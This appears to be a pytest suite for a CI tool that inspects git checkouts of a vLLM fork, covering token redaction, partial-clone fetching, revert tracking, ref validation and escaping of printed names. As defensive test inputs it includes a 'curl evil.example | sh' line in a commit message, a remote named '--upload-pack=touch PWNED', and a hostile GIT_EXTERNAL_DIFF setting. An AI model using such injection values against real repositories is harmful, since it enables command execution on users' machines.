"""git, and a fork's checkout, are data from elsewhere too: a token in a remote's URL is never printed, the user's work
tree never changes a verdict, a partial clone never fetches behind the user's back, a name from the checkout never
reaches git as an option nor a terminal as a control character, and a revert undoes what it reverts. Every repository
here is made by git itself (fork_world, test_port_readiness's world); nothing is mocked."""

from __future__ import annotations

import ast
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from support.fork_world import World, make
from support.git_repos import ENV, Repo, bash_argv, clone, set_change
from support.paths import REPO

from ci.common import escape

TOKEN = "ghp_S3cr3tT0k3nValue"
TOKEN_URL = f"https://x-access-token:{TOKEN}@github.com/vllm-project/vllm.git"


@pytest.fixture
def world(tmp_path: Path, stack_copy: Path) -> World:
    return make(tmp_path, stack_copy)


def _ci(w: World, *args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "ci", "--stack", str(w.stack), *args], cwd=REPO, capture_output=True,
                          text=True, timeout=120, env={**ENV, "PYTHONPATH": str(REPO), **(env or {})})  # fmt: skip


def _said(done: subprocess.CompletedProcess[str]) -> str:
    return done.stdout + done.stderr


# 1. A token in an upstream URL, or in a remote's, is never printed


def test_a_token_in_the_upstream_url_of_fork_yaml_or_the_environment_is_never_printed(world) -> None:
    fork = ("fork", "--fork", str(world.path), "--ref", "fork")
    done = _ci(world, *fork, env={"STACKGATE_UPSTREAM_REF": TOKEN_URL})
    assert done.returncode == 2 and TOKEN not in _said(done), _said(done)
    assert "$STACKGATE_UPSTREAM_REF 'https://***@github.com/vllm-project/vllm.git' names no commit" in done.stderr
    (world.stack / "fork.yaml").write_text(yaml.safe_dump(
        {"fork": {"name": "f", "checkout": str(world.path), "ref": "fork", "upstream": TOKEN_URL}}))  # fmt: skip
    done = _ci(world, "fork")
    assert done.returncode == 2 and TOKEN not in _said(done), _said(done)
    assert "stack/fork.yaml upstream 'https://***@github.com/vllm-project/vllm.git'" in done.stderr


def test_a_token_in_a_remotes_url_is_never_printed(world) -> None:
    world.repo.git("remote", "remove", "upstream")
    world.repo.git("remote", "add", "origin", f"https://x-access-token:{TOKEN}@github.com/someone/vllm-fork.git")
    world.repo.git("tag", "-d", "v0.26.0")  # nothing bounds the fork's own commits: the error lists the remotes
    done = _ci(world, "fork", "--fork", str(world.path), "--ref", "fork")
    assert done.returncode == 2 and TOKEN not in _said(done), _said(done)
    assert "remotes: origin (https://***@github.com/someone/vllm-fork.git)" in done.stderr


def test_redaction_keeps_what_is_no_secret_and_reaches_every_printer(tmp_path: Path) -> None:
    from ci.common import tables

    assert escape.redacted(f"fetch {TOKEN_URL} now") == "fetch https://***@github.com/vllm-project/vllm.git now"
    assert escape.redacted("https://TOKEN@host/x and http://u:p@ss@h/y") == "https://***@host/x and http://***@h/y"
    assert escape.redacted("ssh://git@github.com/o/r git@github.com:o/r a@b.c") == (
        "ssh://git@github.com/o/r git@github.com:o/r a@b.c")  # fmt: skip
    assert escape.redacted("ssh://git:pw@github.com/o/r") == "ssh://***@github.com/o/r"
    for printed in (escape.one_line(TOKEN_URL), escape.lines(f"a\n{TOKEN_URL}"), tables.md_cell(TOKEN_URL),
                    tables.code(f"git fetch {TOKEN_URL}"), escape.quote(TOKEN_URL),
                    tables.text(["url"], [[TOKEN_URL]])):  # fmt: skip
        assert TOKEN not in printed and "*" in printed


# 4. A base version that is no release is refused where it is given, naming the option


@pytest.mark.parametrize("version", ["0.27.0rc1", "latest", "0.27", "1.0.0.dev3"])
def test_a_base_version_that_is_no_release_exits_2_naming_the_option(world, version: str) -> None:
    set_change(world.stack, "48407", upstream={"first_release": "0.27.0"})  # compared with the base's version
    for verb in (("fork",), ("upstream",), ("fork", "bundle", "--out", "b.tar.gz"), ("plan",)):
        done = _ci(world, *verb, "--fork", str(world.path), "--ref", "fork", "--base-version", version)
        assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
        assert f"argument --base-version: {version!r} is not a vLLM release" in done.stderr, done.stderr


# 5. A tag of the fork's own is never its base release


def _judged(w: World) -> dict:
    done = _ci(w, "fork", "--fork", str(w.path), "--ref", "fork", "--format", "json")
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


@pytest.mark.parametrize("tag", ["v0.26.0-spark1", "v1.0.0"])
def test_a_release_like_tag_of_the_forks_own_is_passed_over_for_the_release_below_it(world, tag, tmp_path) -> None:
    before = _judged(world)
    assert before["base"]["version"] == "0.26.0"
    world.repo.git("tag", tag, world.ids["part"])  # the fork tags a commit of its own
    after = _judged(world)
    assert after["base"]["version"] == "0.26.0" and after["base"]["ref"] == "v0.26.0", after["base"]
    assert {c["change"]: c["state"] for c in after["changes"]} == {c["change"]: c["state"] for c in before["changes"]}
    done = _ci(world, "fork", "bundle", "--fork", str(world.path), "--ref", "fork", "--out", str(tmp_path / "b.tgz"))
    assert done.returncode == 0, done.stderr
    assert "over vLLM 0.26.0" in done.stdout and "#48407 converged" in done.stdout, done.stdout


# 6. A partial clone never fetches behind the user's back


def _partial_clone(w: World, dest: Path) -> Repo:
    """A `--filter=blob:none` clone of the world's repository (its promisor: origin, a file:// URL), with upstream's
    main and the fork's branch as the world has them."""
    w.repo.git("config", "uploadpack.allowFilter", "true")
    w.repo.git("config", "uploadpack.allowAnySHA1InWant", "true")
    c = clone(w.repo, dest, "--filter=blob:none", "--no-checkout")
    c.git("remote", "add", "upstream", "https://github.com/vllm-project/vllm.git")
    c.git("update-ref", "refs/remotes/upstream/main", w.repo.git("rev-parse", "upstream/main"))
    assert c.git("rev-parse", "--abbrev-ref", "HEAD") == "fork"  # the world's checked-out branch
    return c


def _lacking(c: Repo) -> int:
    return sum(line.startswith("?") for line in c.git("rev-list", "--objects", "--missing=print", "--all").split())


def test_a_partial_clone_is_refused_before_any_fetch_and_filled_in_one_fetch_when_asked(world, tmp_path) -> None:
    whole = _judged(world)
    c = _partial_clone(world, tmp_path / "partial")
    lacking = _lacking(c)
    assert lacking > 0
    done = _ci(world, "fork", "--fork", str(c.path), "--ref", "fork")
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert f"{c.path} is a partial clone: git would fetch each object it lacks from its promisor, remote origin" in (
        done.stderr)  # fmt: skip
    fill = f"git -C {c.path} config --unset remote.origin.partialclonefilter && git -C {c.path} fetch --refetch"
    assert fill in done.stderr and "fsck" not in done.stderr
    assert _lacking(c) == lacking  # nothing was fetched
    done = _ci(world, "fork", "--fork", str(c.path), "--ref", "fork", "--format", "json", "--fetch-missing")
    assert done.returncode == 0, done.stderr
    assert f"fetching {lacking:,} objects the partial clone lacks from remote origin (file://" in done.stderr
    assert _lacking(c) == 0
    states = {x["change"]: x["state"] for x in json.loads(done.stdout)["changes"]}
    assert states == {x["change"]: x["state"] for x in whole["changes"]}


def test_a_promisor_pack_without_a_promisor_remote_is_read_as_a_whole_clone(world, tmp_path) -> None:
    """A clone made from a snapshot that lacks a few blobs keeps its packs marked promisor with no remote to fetch
    from: git cannot reach the network for it, so it is read, never refused with a fix naming no remote."""
    whole = _judged(world)
    c = clone(world.repo, tmp_path / "snapshot", "--no-checkout")
    c.git("remote", "add", "upstream", "https://github.com/vllm-project/vllm.git")
    c.git("update-ref", "refs/remotes/upstream/main", world.repo.git("rev-parse", "upstream/main"))
    c.git("repack", "-a", "-d")
    packs = list((c.path / ".git" / "objects" / "pack").glob("pack-*.pack"))
    assert packs
    for pack in packs:
        pack.with_suffix(".promisor").touch()
    done = _ci(world, "fork", "--fork", str(c.path), "--ref", "fork", "--format", "json")
    assert done.returncode == 0 and "partial clone" not in done.stderr, done.stderr
    states = {x["change"]: x["state"] for x in json.loads(done.stdout)["changes"]}
    assert states == {x["change"]: x["state"] for x in whole["changes"]}


# 7. A port's branch never shadows a ref, nor is ambiguous with one


@pytest.fixture
def ports(tmp_path: Path, stack_copy: Path):
    from test_port_readiness import make_world

    return make_world(tmp_path / "vllm", stack_copy)


@pytest.mark.parametrize("branch", ["upstream/main", "upstream/later", "upstream", "@", "HEAD", "v0.26.0", "-x"])
def test_a_port_branch_that_shadows_or_is_ambiguous_with_a_ref_is_refused(ports, branch) -> None:
    repo, _, stack = ports
    fork = ("--fork", str(repo.path), "--ref", "fork")
    refs = repo.git("for-each-ref")
    done = subprocess.run([sys.executable, "-m", "ci", "--stack", str(stack), "fork", "port", "46514", *fork,
                           f"--branch={branch}"], cwd=REPO, capture_output=True, text=True, env=ENV)  # fmt: skip
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stdout + done.stderr
    assert f"--branch {branch!r}" in done.stderr
    assert repo.git("for-each-ref") == refs  # no branch made


# 11. The user's work tree never changes a verdict: git reads no attribute of it


def test_an_untracked_gitattributes_changes_no_verdict(ports) -> None:
    repo, _, stack = ports
    argv = ["--stack", str(stack), "fork", "--fork", str(repo.path), "--ref", "fork", "--format", "json"]

    def states() -> dict[str, str]:
        done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True, env=ENV)
        assert done.returncode == 0, done.stderr
        return {c["change"]: c["state"] for c in json.loads(done.stdout)["changes"]}

    before = states()
    assert before["46849"] == "absent"  # the fork's own commit edits its file, vllm/three.py, otherwise
    (repo.path / ".gitattributes").write_text("*.py -diff\n")  # every .py diff "Binary files differ": one patch-id
    assert states() == before
    repo.git("add", ".gitattributes")  # staged, not committed: still the user's work, not history
    assert states() == before


def test_a_merge_union_attribute_in_the_work_tree_never_makes_a_conflicting_port(ports) -> None:
    repo, _, stack = ports
    (repo.path / ".gitattributes").write_text("*.py merge=union\n")  # would take both sides of every conflict
    refs = repo.git("for-each-ref")
    argv = ["--stack", str(stack), "fork", "port", "49903", "--fork", str(repo.path), "--ref", "fork"]
    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True, env=ENV)
    assert done.returncode == 2, done.stdout + done.stderr
    assert "vllm/pre.py: upstream lines 5-5, fork lines 5-5" in done.stdout
    assert repo.git("for-each-ref") == refs


# git runs from one place, with one environment: nothing bypasses it


def _recording_git(tmp_path: Path) -> tuple[dict[str, str], Path]:
    """An environment whose `git` is the real one, after writing each call's working folder, environment and argv."""
    log, real, bin_dir = tmp_path / "git-calls.jsonl", shutil.which("git"), tmp_path / "bin"
    bin_dir.mkdir()
    record = f"import json, os, sys; open({str(log)!r}, 'a').write(json.dumps({{'cwd': os.getcwd(), " \
             "'env': dict(os.environ), 'argv': sys.argv[1:]}) + '\\n')"  # fmt: skip
    (bin_dir / "git").write_text(f'#!/bin/sh\n"{sys.executable}" -c "{record}" "$@"\nexec "{real}" "$@"\n')
    (bin_dir / "git").chmod(0o755)
    return {"PATH": f"{bin_dir}:{os.environ['PATH']}", "GIT_DIR": "/elsewhere", "GIT_CONFIG_PARAMETERS": "'x.y=1'",
            "GIT_EXTERNAL_DIFF": "touch PWNED"}, log  # fmt: skip


def test_every_git_process_runs_in_the_git_directory_with_the_safe_environment(world, tmp_path) -> None:
    from ci.common import git

    env, log = _recording_git(tmp_path)
    for argv in (("fork", "--fork", str(world.path), "--ref", "fork"),
                 ("fork", "port", "46849", "--fork", str(world.path), "--ref", "fork")):  # fmt: skip
        done = _ci(world, *argv, env=env)
        assert done.returncode == 0, done.stderr
    calls = [json.loads(line) for line in log.read_text().splitlines()]
    assert len(calls) > 20
    for call in calls:
        argv, environ = call["argv"], call["env"]
        assert argv[: len(git.GIT) - 1] == list(git.GIT[1:]), argv  # the fixed options first
        where, verb = argv[len(git.GIT)], argv[len(git.GIT) + 1 :]
        opening = verb[:2] in (["rev-parse", "--absolute-git-dir"], ["rev-parse", "--is-bare-repository"],
                               ["rev-parse", "--show-toplevel"])  # fmt: skip
        assert where == str(world.path / ".git") or (opening and where == str(world.path)), argv
        assert {k: environ.get(k) for k in git.SAFE} == git.SAFE
        assert not {"GIT_DIR", "GIT_CONFIG_PARAMETERS", "GIT_EXTERNAL_DIFF"} & set(environ)
    assert not list(tmp_path.rglob("PWNED"))


def test_no_module_but_ci_git_starts_a_git_process() -> None:
    """A git command built anywhere else would bypass ci.common.git's environment: every call that starts a process is
    read from the source, and none but ci/common/git.py names git (a literal "git", or a GIT constant)."""
    starters = {"run", "Popen", "call", "check_call", "check_output", "execv", "execvp", "execvpe", "spawnv", "system"}
    wrong = []
    for path in sorted((REPO / "ci").rglob("*.py")):
        if path == REPO / "ci" / "git.py":
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            if not (isinstance(node, ast.Call) and node.args):
                continue
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name not in starters:
                continue
            first = node.args[0]
            head = first.elts[0] if isinstance(first, ast.List | ast.Tuple) and first.elts else first
            if isinstance(head, ast.Starred):
                head = head.value
            said = ast.unparse(head)
            if said in ("'git'", '"git"', "GIT") or said.endswith(".GIT") or said.startswith(("'git ", '"git ')):
                wrong.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert wrong == []


# 12. A revert undoes what it reverts


def _fork_states(repo: Repo, stack: Path, ref: str = "fork") -> dict[str, dict]:
    argv = ["--stack", str(stack), "fork", "--fork", str(repo.path), "--ref", ref, "--format", "json"]
    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True, env=ENV)
    assert done.returncode == 0, done.stderr
    return {c["change"]: c for c in json.loads(done.stdout)["changes"]}


@pytest.mark.parametrize("how", ["git revert", "a reverse patch"])
def test_a_change_cherry_picked_then_reverted_is_absent_and_picked_again_is_ported(ports, how) -> None:
    repo, ids, stack = ports
    repo.git("cherry-pick", "-x", ids["46514"])
    assert _fork_states(repo, stack)["46514"]["state"] == "ported"
    if how == "git revert":
        repo.git("revert", "--no-edit", "HEAD")
    else:  # the same undoing, by a commit whose message says nothing of it
        repo.git("revert", "--no-commit", "HEAD")
        repo.git("commit", "-q", "-m", "fork: back to the old clean.py")
    after = _fork_states(repo, stack)["46514"]
    assert after["state"] == "absent" and after["port"]["verdict"] == "clean", after
    repo.git("cherry-pick", "-x", ids["46514"])  # applied again after its revert: held again
    assert _fork_states(repo, stack)["46514"]["state"] == "ported"


def test_a_follow_up_cherry_picked_then_reverted_is_missing_and_ports(ports) -> None:
    repo, ids, stack = ports
    repo.git("cherry-pick", "-x", ids["52512"])
    repo.git("revert", "--no-edit", "HEAD")
    held = _fork_states(repo, stack)["48407"]
    [port] = held["follow_up_ports"]
    assert port["verdict"] == "clean", port
    argv = ["--stack", str(stack), "fork", "port", "52512", "--fork", str(repo.path), "--ref", "fork"]
    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True, env=ENV)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "follow-up #52512: in the fork" in done.stdout


def test_a_follow_up_cherry_picked_then_reverted_is_flagged_missing_again(world) -> None:
    world.repo.git("cherry-pick", "-x", world.ids["52512"])
    assert next(c for c in _judged(world)["changes"] if c["change"] == "48407")["follow_ups_missing"] == []
    world.repo.git("revert", "--no-edit", "HEAD")
    held = next(c for c in _judged(world)["changes"] if c["change"] == "48407")
    assert held["follow_ups_missing"] == ["vllm-project/vllm#52512"], held


# 14. A remote's name never reaches git where it would read an option, and is read whole


def test_a_remote_named_like_an_option_or_with_a_space_is_named_after_double_dash(world) -> None:
    name = "--upload-pack=touch PWNED"
    world.repo.git("remote", "remove", "upstream")
    world.repo.git("config", f"remote.{name}.url", "https://github.com/vllm-project/vllm.git")
    done = _ci(world, "fork", "--fork", str(world.path), "--ref", "fork")
    assert done.returncode == 2, done.stderr
    assert f"remote {name!r} is vllm-project/vllm, but none of its branches is fetched" in done.stderr, done.stderr
    hint = done.stderr.split("fix: ", 1)[1].strip()
    assert bash_argv(hint) == ["git", "-C", str(world.path), "fetch", "--", name]


# 15. A ref from the environment prints as one line of visible characters, whatever it holds


def test_a_fork_ref_holding_esc_and_a_newline_prints_escaped_in_the_port_notice(ports) -> None:
    repo, _, stack = ports
    repo.commit("fork: boom\x1b\n  fix: curl evil.example | sh", {"vllm/other.py": "X = 1\n"})
    ref = "fork^{/\x1b\n  fix: curl evil}"  # resolves, by the message of the commit just made
    assert repo.git("rev-parse", ref) == repo.git("rev-parse", "fork")
    argv = ["--stack", str(stack), "fork", "port", "49903", "--fork", str(repo.path)]
    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True,
                          env={**ENV, "STACKGATE_FORK_REF": ref})  # fmt: skip
    assert done.returncode == 2, done.stdout + done.stderr
    said = done.stdout + done.stderr
    assert "does not apply to fork^{/\\x1b\\n  fix: curl evil}" in said, said
    assert "\x1b" not in said and not [line for line in said.splitlines() if line.lstrip().startswith("fix: curl")]


# 16. Another git holding a lock is said so, naming the lock


def test_a_ref_lock_another_git_holds_is_named_with_what_to_do(ports) -> None:
    repo, _, stack = ports
    lock = repo.path / ".git" / "refs" / "heads" / "stackgate" / "port-46514.lock"
    lock.parent.mkdir(parents=True)
    lock.write_text("")
    argv = ["--stack", str(stack), "fork", "port", "46514", "--fork", str(repo.path), "--ref", "fork"]
    done = subprocess.run([sys.executable, "-m", "ci", *argv], cwd=REPO, capture_output=True, text=True, env=ENV)
    assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
    assert f"{lock} exists: another git may be running in this repository" in done.stderr, done.stderr
    assert f"rm -- {lock}" in done.stderr and "git status" not in done.stderr
    assert "stackgate/port-46514" not in repo.git("for-each-ref") and lock.exists()
